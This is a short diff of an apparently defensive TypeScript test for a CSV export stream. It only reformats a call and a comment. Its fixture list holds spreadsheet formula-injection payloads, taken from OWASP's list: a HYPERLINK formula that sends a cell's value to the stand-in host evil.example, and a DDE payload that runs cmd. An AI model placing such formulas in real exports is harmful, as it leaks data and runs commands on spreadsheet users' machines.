@@ -6,11 +6,15 @@ const textOf = async (rows: (string | number | null)[][]): Promise<string> => {
   async function* batches() {
     for (const row of rows) yield [row];
   }
-  const pieces = await Array.fromAsync(csvStream({ fileName: 'x.csv', head: ['a', 'b'], batches: batches() }));
+  const pieces = await Array.fromAsync(
+    csvStream({ fileName: 'x.csv', head: ['a', 'b'], batches: batches() }),
+  );
   return Buffer.concat(pieces).toString('utf8');
 };
 
-/** Text that spreadsheets take for a formula: OWASP's list, and the full-width signs that some of them accept. */
+/**
+ * Text that spreadsheets take for a formula: OWASP's list, and the full-width signs that some of them accept.
+ */
 const formulas = [
   '=HYPERLINK("https://evil.example?x="&A1,"Click")',
   "=cmd|' /C calc'!A0",
